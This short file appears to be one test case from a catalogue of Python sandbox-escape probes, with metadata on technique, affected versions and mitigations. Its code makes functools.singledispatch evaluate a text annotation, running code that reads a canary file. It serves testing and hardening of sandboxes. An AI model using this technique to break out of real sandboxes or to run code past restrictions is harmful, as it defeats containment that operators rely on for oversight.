# id: singledispatch-annotation
# family: eval-in-stdlib
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: register() of a generic function looks the type up in an annotation, and evaluates it when it is text
# needs: 3.7+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import functools


class Implementation:
    __annotations__ = {"x": "print(open('canary.txt').read())"}

    def __call__(self, x):
        pass


functools.singledispatch(len).register(Implementation())
